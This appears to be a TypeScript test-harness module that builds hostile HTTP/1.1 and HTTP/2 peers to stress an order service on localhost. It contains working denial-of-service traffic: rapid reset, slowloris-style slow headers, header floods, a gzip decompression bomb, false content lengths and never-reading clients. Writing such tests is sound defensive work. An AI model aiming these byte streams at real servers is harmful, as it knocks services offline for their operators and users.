import { gzipSync } from "node:zlib";
import { grpcFields } from "./calls.ts";
import { frame, literals } from "./frames.ts";
import { encodeWatch, requests, WATCH_PATH } from "./messages.ts";
import { randomFrom } from "./random.ts";

/*
 * What hostile peers write. Each kind says of each door what is sent when the connection opens and then again at every beat
 * of the peer's, until the server has had enough. A peer whose connection is closed comes back after a pause.
 */

/** The bytes of one door's peer. */
export interface Attack {
  readonly opening: Buffer;
  /** Sent at the n-th beat; empty: nothing. */
  beat(n: number): Buffer;
  /** It reads nothing of what it is sent. */
  readonly deaf?: boolean;
}

export type Door = "grpc" | "http";
export type AttackMaker = (door: Door, key: string) => Attack;

const [DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION] = [0, 1, 3, 4, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
/** Bytes of a frame's head, and where in it the stream stands. */
const [FRAME_HEAD, STREAM_AT] = [9, 5];
const NOTHING = Buffer.alloc(0);
const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0, NOTHING)]);
const GET_PATH = "/leadline.v1.OrderService/GetOrder";
const LIST_PATH = "/leadline.v1.OrderService/ListOrders";
const CANCEL = Buffer.from([0, 0, 0, 8]);
const BOMB = gzipSync(Buffer.alloc(64 * 1024 * 1024));
/** The largest that is taken, as far as its size goes. */
const LAWFUL_BOMB = gzipSync(Buffer.alloc(4 * 1024 * 1024));
const get = requests("get", 1_000, "", randomFrom(7));

/** The n-th stream that a client opens. */
const streamOf = (n: number) => 2 * n + 1;

function head(path: string, key: string, more: readonly (readonly [string, string])[] = []): Buffer {
  return literals([...grpcFields(path), ["authorization", `Bearer ${key}`], ...more]);
}

function enveloped(message: Uint8Array, flags = 0, says = message.length): Buffer {
  const envelope = Buffer.alloc(5);
  envelope[0] = flags;
  envelope.writeUInt32BE(says, 1);
  return Buffer.concat([envelope, message]);
}

/** A body as DATA frames of at most 16 KiB, without an end. */
function data(stream: number, body: Buffer): Buffer {
  const frames: Buffer[] = [];
  for (let at = 0; at < body.length; at += 16_384) frames.push(frame(DATA, 0, stream, body.subarray(at, at + 16_384)));
  return Buffer.concat(frames);
}

function http1(path: string, key: string, lines: readonly string[]): string {
  return [`POST ${path} HTTP/1.1`, "host: 127.0.0.1", `authorization: Bearer ${key}`, ...lines, ""].join("\r\n");
}

/** Streams over HTTP/2, so many at each beat: one beat is encoded, and copies get streams of their own. */
function streams(each: number, bytes: (stream: number) => Buffer, deaf = false): Attack {
  const template = Buffer.concat(Array.from({ length: each }, (_, i) => bytes(streamOf(i))));
  const places: { at: number; stream: number }[] = [];
  for (let at = 0; at < template.length; at += FRAME_HEAD + template.readUIntBE(at, 3)) {
    places.push({ at: at + STREAM_AT, stream: template.readUInt32BE(at + STREAM_AT) });
  }
  const beat = (n: number) => {
    const copy = Buffer.from(template);
    for (const { at, stream } of places) copy.writeUInt32BE(stream + 2 * n * each, at);
    return copy;
  };
  return { opening: PREFACE, beat, deaf };
}

export const kinds: Readonly<Record<string, AttackMaker>> = {
  "silent sockets": () => ({ opening: NOTHING, beat: () => NOTHING }),
  "slow headers": (door, key) => {
    if (door === "http") {
      const line = `${http1(GET_PATH, key, ["content-type: application/json"])}x-slow: `;
      return { opening: Buffer.from(line), beat: () => Buffer.from("x") };
    }
    const block = head(GET_PATH, key);
    const opening = Buffer.concat([PREFACE, frame(HEADERS, 0, 1, block.subarray(0, 20))]);
    return { opening, beat: (n) => frame(CONTINUATION, 0, 1, block.subarray(20 + n, 21 + n)) };
  },
  "rapid reset": (_door, key) =>
    streams(20, (stream) =>
      Buffer.concat([frame(HEADERS, END_HEADERS, stream, head(GET_PATH, key)), frame(RST_STREAM, 0, stream, CANCEL)]),
    ),
  "header floods": (door, key) => {
    const value = "x".repeat(8_000);
    if (door === "http") {
      const lines = Buffer.from(Array.from({ length: 8 }, (_, i) => `x-flood-${i}: ${value}\r\n`).join(""));
      return { opening: Buffer.from(http1(GET_PATH, key, [])), beat: () => lines };
    }
    const flood = literals([["x-flood", value]]);
    const opening = Buffer.concat([PREFACE, frame(HEADERS, 0, 1, head(GET_PATH, key))]);
    const more = Buffer.concat(Array.from({ length: 8 }, () => frame(CONTINUATION, 0, 1, flood)));
    return { opening, beat: () => more };
  },
  "huge declared lengths": (door, key) => {
    if (door === "http") {
      const text = http1(GET_PATH, key, ["content-type: application/json", "content-length: 1099511627776", ""]);
      const blanks = Buffer.alloc(16_384, 32);
      return { opening: Buffer.from(text), beat: () => blanks };
    }
    return streams(4, (stream) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS, stream, head(GET_PATH, key)),
        data(stream, enveloped(Buffer.alloc(1_000), 0, 0xffff_ffff)),
      ]),
    );
  },
  "compressed bombs": (door, key) => {
    if (door === "http") {
      const lines = ["content-type: application/json", "content-encoding: gzip", `content-length: ${BOMB.length}`, ""];
      const call = Buffer.concat([Buffer.from(http1(GET_PATH, key, lines)), BOMB]);
      return { opening: NOTHING, beat: () => call };
    }
    return streams(1, (stream) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS, stream, head(GET_PATH, key, [["grpc-encoding", "gzip"]])),
        data(stream, enveloped(LAWFUL_BOMB, 1)),
        frame(DATA, END_STREAM, stream, NOTHING),
      ]),
    );
  },
  "never-reading clients": (door, key) => {
    if (door === "http") {
      const body = '{"pageSize":100}';
      const lines = ["content-type: application/json", `content-length: ${body.length}`, "", body];
      const call = Buffer.from(http1(LIST_PATH, key, lines).slice(0, -2));
      return { opening: NOTHING, beat: () => call, deaf: true };
    }
    const list = enveloped(Buffer.from([0x10, 100])); // page_size: 100
    const watch = enveloped(encodeWatch({}));
    return streams(
      2,
      (stream) => {
        const [path, message] = stream % 4 === 1 ? [LIST_PATH, list] : [WATCH_PATH, watch];
        const asked = frame(HEADERS, END_HEADERS, stream, head(path, key));
        return Buffer.concat([asked, frame(DATA, END_STREAM, stream, message)]);
      },
      true,
    );
  },
  "deadlines past 2^31 ms": (door, key) => {
    if (door === "http") {
      const body = '{"orderId":"order-00000001"}';
      const lines = ["content-type: application/json", "connect-timeout-ms: 9999999999"];
      const text = http1(GET_PATH, key, [...lines, `content-length: ${body.length}`, "", body]).slice(0, -2);
      const call = Buffer.from(text);
      return { opening: NOTHING, beat: () => call };
    }
    return streams(2, (stream) => {
      const block = head(GET_PATH, key, [["grpc-timeout", "99999999H"]]);
      const asked = frame(HEADERS, END_HEADERS, stream, block);
      return Buffer.concat([asked, frame(DATA, END_STREAM, stream, enveloped(get().message))]);
    });
  },
  "missing half-close": (door, key) => {
    if (door === "http") {
      const lines = ["content-type: application/json", "content-length: 100", "", '{"orderId":'];
      return { opening: Buffer.from(http1(GET_PATH, key, lines).slice(0, -2)), beat: () => NOTHING };
    }
    return streams(4, (stream) => {
      const asked = frame(HEADERS, END_HEADERS, stream, head(GET_PATH, key));
      return Buffer.concat([asked, data(stream, enveloped(get().message))]);
    });
  },
};
